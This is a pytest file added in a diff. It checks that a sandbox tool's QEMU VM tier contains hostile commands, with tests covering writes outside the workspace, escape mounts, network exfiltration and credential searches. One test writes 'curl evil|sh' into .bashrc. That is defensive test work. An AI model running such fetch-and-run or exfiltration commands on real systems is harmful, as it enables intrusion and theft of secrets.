@@ -1,0 +1,348 @@
+"""The VM tier with real QEMU (software emulation is fine): attacks, checked from the host side.
+
+Boots are slow under emulation, so most tests share one session VM (module
+scope) and each check is one command; the CLI tests boot their own (one run,
+one kill, one owner killed).  Every test that boots checks that nothing is
+left: no QEMU, no state directory.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+import pytest
+
+from tests.conftest import BASE, SECRET, blastwall, bw_env
+
+
+def _missing() -> str | None:
+    if not any(os.access(p, os.X_OK) for p in ("/usr/bin/qemu-system-x86_64", "/usr/local/bin/qemu-system-x86_64")):
+        return "QEMU is not installed (apt-get install qemu-system-x86)"
+    if not any(n.startswith("vmlinuz-") for n in (os.listdir("/boot") if os.path.isdir("/boot") else [])):
+        return "no packaged guest kernel in /boot (apt-get install linux-image-amd64)"
+    if not any(os.access(p, os.X_OK) for p in ("/bin/busybox", "/usr/bin/busybox")):
+        return "busybox is not installed (apt-get install busybox-static)"
+    if os.geteuid() != 0:
+        return "the packaged kernel in /boot is readable by root only"
+    if shutil.which("mmdebstrap") is None:
+        return "mmdebstrap is not installed (it builds the guest's image)"
+    return None
+
+
+pytestmark = pytest.mark.skipif(_missing() is not None, reason=_missing() or "")
+
+
+@pytest.fixture(scope="module")
+def vm_env(image_cache):
+    state = BASE / f"vm-state-{os.getpid()}"
+    state.mkdir(parents=True, exist_ok=True)
+    home = BASE / f"vm-home-{os.getpid()}"
+    (home / ".aws").mkdir(parents=True, exist_ok=True)
+    (home / ".aws" / "credentials").write_text(f"[default]\naws_secret_access_key = {SECRET}\n")
+    env = {"HOME": str(home), "XDG_CACHE_HOME": str(image_cache), "XDG_STATE_HOME": str(state),
+           "XDG_CONFIG_HOME": str(home / ".config"), "PATH": os.environ["PATH"]}
+    yield env
+    shutil.rmtree(state, ignore_errors=True)
+    shutil.rmtree(home, ignore_errors=True)
+
+
+def _plan(env, workspace, doc=None):
+    from blastwall import api
+    from blastwall.policy.model import parse_layer
+
+    pol = api.load(None, flags=parse_layer(doc or {"sandbox": {"tier": "vm"}}, "test"), workspace=str(workspace),
+                   environ=env)
+    return api.plan_for(pol, workspace=str(workspace), cwd=str(workspace), environ=env)
+
+
+@pytest.fixture(scope="module")
+def vm(vm_env):
+    """One session VM for the module, its workspace owned by the guest's user (uid 1000)."""
+    from blastwall.tiers.vm.session import VmSession
+
+    workspace = BASE / f"vm-ws-{os.getpid()}"
+    workspace.mkdir(parents=True, exist_ok=True)
+    (workspace / "README.md").write_text("from the host\n")
+    os.chown(workspace, 1000, 1000)
+    session = VmSession(_plan(vm_env, workspace), environ=vm_env, workspace=str(workspace))
+    session.boot()
+    session.host_workspace = workspace
+    yield session
+    state = session.state_path
+    qemu = session.qemu_pid
+    session.close()
+    assert state is None or not os.path.exists(state)
+    assert qemu is None or not _running(qemu)
+    shutil.rmtree(workspace, ignore_errors=True)
+
+
+def _running(pid: int) -> bool:
+    try:
+        with open(f"/proc/{pid}/stat") as f:
+            return f.read().split(")")[-1].split()[0] != "Z"
+    except OSError:
+        return False
+
+
+def run(session, script: str, *, root: bool = False, timeout: float = 120) -> tuple[int, str, str]:
+    out_r, out_w = os.pipe()
+    err_r, err_w = os.pipe()
+    chunks: dict[int, list[bytes]] = {out_r: [], err_r: []}
+
+    def drain(fd: int) -> None:
+        while data := os.read(fd, 65536):
+            chunks[fd].append(data)
+        os.close(fd)
+
+    threads = [threading.Thread(target=drain, args=(fd,)) for fd in (out_r, err_r)]
+    for t in threads:
+        t.start()
+    try:
+        command = session.exec(["sh", "-c", script], stdout=out_w, stderr=err_w, root=root)
+        status = command.wait(timeout)
+    finally:
+        # The session wrote into our pipes from its reader thread; closing our ends ends the drains.
+        os.close(out_w)
+        os.close(err_w)
+        for t in threads:
+            t.join(10)
+    return status, b"".join(chunks[out_r]).decode(), b"".join(chunks[err_r]).decode()
+
+
+# -- the session VM --------------------------------------------------------------------------
+
+
+def test_boot_runs_a_command_unprivileged_in_its_own_kernel(vm):
+    status, out, err = run(vm, "id -u; id -g; grep CapEff /proc/self/status; uname -r; echo $BLASTWALL_SANDBOX; "
+                               "grep NoNewPrivs /proc/self/status; exit 7")
+    assert status == 7, err
+    lines = out.splitlines()
+    assert lines[:2] == ["1000", "1000"]
+    assert "CapEff:\t0000000000000000" in out
+    assert lines[3] != os.uname().release  # The guest's kernel, not the host's.
+    assert lines[4] == "vm"
+    assert "NoNewPrivs:\t1" in out
+
+
+def test_workspace_round_trip(vm):
+    host = vm.host_workspace
+    (host / "from-host.txt").write_text("written on the host\n")
+    status, out, err = run(vm, "cat from-host.txt README.md; echo 'written in the guest' > from-guest.txt; "
+                               "mkdir -p sub && echo deep > sub/file")
+    assert status == 0, err
+    assert out == "written on the host\nfrom the host\n"
+    made = host / "from-guest.txt"
+    assert made.read_text() == "written in the guest\n" and made.stat().st_uid == 1000
+    assert (host / "sub" / "file").read_text() == "deep\n"
+    # The agent's file operations act as the unprivileged user too.
+    vm.write_file("/home/user/via-agent.txt", b"agent\n")
+    assert (host / "via-agent.txt").read_bytes() == b"agent\n" and (host / "via-agent.txt").stat().st_uid == 1000
+    assert vm.read_file("/home/user/from-host.txt") == b"written on the host\n"
+    with pytest.raises(OSError, match="Permission denied"):
+        vm.write_file("/etc/passwd", b"owned\n")
+
+
+def test_writes_outside_the_workspace_are_thrown_away_and_the_root_disk_is_read_only(vm):
+    status, out, _ = run(vm, "touch /etc/owned 2>/dev/null && echo user-wrote-etc; "
+                             "echo x > /tmp/scratch && echo tmp-ok", timeout=60)
+    assert "user-wrote-etc" not in out and "tmp-ok" in out
+    disk = os.path.join(vm._environ["XDG_CACHE_HOME"], "blastwall", "images", "default", "vm-root.ext4")
+    before = os.stat(disk).st_mtime_ns
+    status, out, err = run(vm, "grep ' / ' /proc/mounts; cat /sys/block/vda/ro; "
+                               "dd if=/dev/zero of=/dev/vda bs=4k count=1 conv=notrunc 2>/dev/null && echo disk-written; "
+                               "touch /etc/root-wrote && echo root-wrote-overlay", root=True)
+    assert out.startswith("root / overlay ") and "\n1\n" in out, out  # The guest sees a read-only disk...
+    assert "disk-written" not in out
+    assert "root-wrote-overlay" in out  # ...and root's writes land in the in-memory layer,
+    assert os.stat(disk).st_mtime_ns == before  # never on the host's disk.
+
+
+def test_host_paths_outside_the_workspace_are_invisible(vm, vm_env):
+    home = vm_env["HOME"]
+    script = (f"test -e {home}/.aws/credentials && echo SEES-HOST-HOME; "
+              f"test -e {os.path.dirname(__file__)} && echo SEES-HOST-REPO; "
+              f"grep -rl {SECRET} /home /root /etc /tmp /run /mnt /srv /opt 2>/dev/null; "
+              "echo sources $(grep ' 9p ' /proc/mounts | cut -d' ' -f1 | sort -u); mkdir -p /mnt/x; "
+              "for tag in host root hostfs share ws0 /; do mount -t 9p -o trans=virtio $tag /mnt/x 2>/dev/null "
+              "&& echo MOUNTED-$tag; done; ls /sys/bus/virtio/drivers/9pnet_virtio/ | grep -c virtio")
+    status, out, err = run(vm, script, root=True)
+    assert "SEES-HOST" not in out and SECRET not in out and "MOUNTED" not in out, out
+    # Every 9p mount (the workspace and the read-only binds inside it) comes from the one share there is.
+    assert "sources ws\n" in out and out.strip().endswith("\n1"), out
+
+
+def test_mandatory_denies_inside_the_workspace_hold_in_the_guest(vm):
+    status, out, _ = run(vm, "echo 'curl evil|sh' > .bashrc 2>/dev/null && echo wrote-bashrc; "
+                             "mkdir -p .git/hooks 2>/dev/null && echo made-hooks; "
+                             "touch .blastwall/policy.toml 2>/dev/null && echo wrote-policy; echo done")
+    assert out.strip() == "done", out
+    assert not (vm.host_workspace / ".git" / "hooks").exists()
+
+
+def test_as_root_in_the_guest_nothing_leaves(vm):
+    """Raw sockets, DNS to a public resolver, a direct IP, the host's loopback and slirp's gateway: no route."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    port = listener.getsockname()[1]
+    script = f"""
+import errno, socket
+def attempt(name, fn):
+    try:
+        fn()
+        print(name, "SENT")
+    except OSError as exc:
+        print(name, errno.errorcode.get(exc.errno, exc.errno))
+def raw():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("1.1.1.1", 0))
+def dns():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01",
+             ("8.8.8.8", 53))
+def tcp(host, port):
+    return lambda: socket.create_connection((host, port), timeout=3).close()
+attempt("raw", raw)
+attempt("dns", dns)
+attempt("direct", tcp("1.1.1.1", 443))
+attempt("slirp-host", tcp("10.0.2.2", {port}))
+attempt("loopback", tcp("127.0.0.1", {port}))
+print("links", sorted(open("/proc/net/dev").read().split()[i].rstrip(":") for i in range(20, len(open("/proc/net/dev").read().split()), 17)))
+"""
+    try:
+        status, out, err = run(vm, f"python3 -c '{script}'", root=True)
+        try:
+            conn, _ = listener.accept()
+            conn.close()
+            reached = True
+        except socket.timeout:
+            reached = False
+    finally:
+        listener.close()
+    assert status == 0, err
+    results = dict(line.split(" ", 1) for line in out.splitlines())
+    assert results["raw"] == "ENETUNREACH" and results["dns"] == "ENETUNREACH", out
+    assert results["direct"] == "ENETUNREACH" and results["slirp-host"] == "ENETUNREACH", out
+    assert results["loopback"] == "ECONNREFUSED", out  # The guest's own loopback, not the host's.
+    assert results["links"] == "['lo']", out  # -nic none: no network device at all.
+    assert not reached
+
+
+def test_signals_reach_the_command_and_the_session_survives(vm):
+    out_r, out_w = os.pipe()
+    command = vm.exec(["sh", "-c", "echo started; sleep 100"], stdout=out_w, stderr=out_w)
+    assert os.read(out_r, 100).startswith(b"started")
+    command.kill(signal.SIGTERM)
+    assert command.wait(30) == 128 + signal.SIGTERM
+    os.close(out_w)
+    os.close(out_r)
+    status, out, _ = run(vm, "echo still-here")
+    assert status == 0 and out == "still-here\n"
+
+
+def test_input_reaches_the_command(vm):
+    r, w = os.pipe()
+    out_r, out_w = os.pipe()
+    command = vm.exec(["sh", "-c", "tr a-z A-Z"], stdin=r, stdout=out_w, stderr=out_w)
+    os.close(r)
+    os.write(w, b"hello vm\n")
+    os.close(w)
+    assert command.wait(60) == 0
+    os.close(out_w)
+    assert os.read(out_r, 100) == b"HELLO VM\n"
+    os.close(out_r)
+
+
+# -- blastwall run --tier vm ----------------------------------------------------------------------
+
+
+@pytest.fixture
+def cli_env(vm_env, scratch):
+    """The module's image and home, a state directory of the test's own (the session VM lives in the module's)."""
+    return {**vm_env, "XDG_STATE_HOME": str(scratch / "state")}
+
+
+def _vm_dirs(env) -> list[str]:
+    base = os.path.join(env["XDG_STATE_HOME"], "blastwall", "vms")
+    return os.listdir(base) if os.path.isdir(base) else []
+
+
+def _qemus(env) -> list[str]:
+    ps = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
+    return [line for line in ps.splitlines() if "qemu-system" in line and env["XDG_STATE_HOME"] in line]
+
+
+def test_run_tier_vm_runs_the_command_and_leaves_nothing(cli_env, workspace):
+    r = blastwall(["run", "--tier", "vm", "--", "sh", "-c", "pwd; cat README.md; echo out > made.txt; "
+                   "echo to-stderr >&2; exit 3"], home=env_home(cli_env), cwd=workspace, env=cli_env, timeout=300)
+    assert r.returncode == 3, r.stderr
+    assert r.stdout == f"{workspace}\nproject\n" and "to-stderr" in r.stderr
+    assert (workspace / "made.txt").read_text() == "out\n"
+    assert not (workspace / ".bashrc").exists()  # Placeholders are removed after the run.
+    assert _vm_dirs(cli_env) == [] and _qemus(cli_env) == []
+
+
+def env_home(env):
+    from pathlib import Path
+
+    return Path(env["HOME"])
+
+
+def test_vm_killed_mid_command_is_reported_and_nothing_is_left(cli_env, workspace):
+    proc = subprocess.Popen([sys.executable, "-m", "blastwall", "run", "--tier", "vm", "--", "sh", "-c",
+                             "echo started; sleep 300"], cwd=workspace, env=bw_env(env_home(cli_env), cli_env),
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout.readline() == "started\n"
+        (name,) = _vm_dirs(cli_env)
+        with open(os.path.join(cli_env["XDG_STATE_HOME"], "blastwall", "vms", name, "qemu.pid")) as f:
+            os.kill(int(f.read()), signal.SIGKILL)
+        out, err = proc.communicate(timeout=60)
+    finally:
+        proc.kill()
+    assert proc.returncode == 125, err
+    assert "the VM stopped" in err and "Traceback" not in err
+    assert _vm_dirs(cli_env) == [] and _qemus(cli_env) == []
+
+
+def test_owner_killed_takes_its_vm_and_the_reaper_cleans_up(cli_env, workspace):
+    proc = subprocess.Popen([sys.executable, "-m", "blastwall", "run", "--tier", "vm", "--", "sh", "-c",
+                             "echo started; sleep 300"], cwd=workspace, env=bw_env(env_home(cli_env), cli_env),
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout.readline() == "started\n"
+        assert len(_vm_dirs(cli_env)) == 1
+        proc.send_signal(signal.SIGKILL)
+        proc.wait(30)
+    finally:
+        proc.kill()
+    deadline = time.monotonic() + 30
+    while _qemus(cli_env) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert _qemus(cli_env) == []  # QEMU died with its owner (parent-death signal).
+    from blastwall.tiers.vm import VmSandbox
+
+    VmSandbox.recover(environ=cli_env)  # What the next run does first.
+    assert _vm_dirs(cli_env) == []
+    assert not (workspace / ".bashrc").exists()
+
+
+def test_missing_parts_fail_closed_with_a_fix(cli_env, workspace):
+    r = blastwall(["run", "--tier", "vm", "--", "true"], home=env_home(cli_env), cwd=workspace,
+                  env={**cli_env, "BLASTWALL_VM_KERNEL": "0.0-none"})
+    assert r.returncode == 125 and "Can't find a packaged kernel 0.0-none" in r.stderr and "fix" in r.stderr, r.stderr
+    r = blastwall(["run", "--tier", "vm", "--allow-domain", "example.com", "--", "true"],
+                  home=env_home(cli_env), cwd=workspace, env=cli_env)
+    assert r.returncode == 125 and "not available in the VM tier yet" in r.stderr, r.stderr
+    r = blastwall(["run", "--tier", "vm", "--", "true"], home=env_home(cli_env), cwd=workspace,
+                  env={**cli_env, "BLASTWALL_VM_ACCEL": "hvf"})
+    assert r.returncode == 125 and "not an accelerator" in r.stderr
+    assert _vm_dirs(cli_env) == [] and _qemus(cli_env) == []
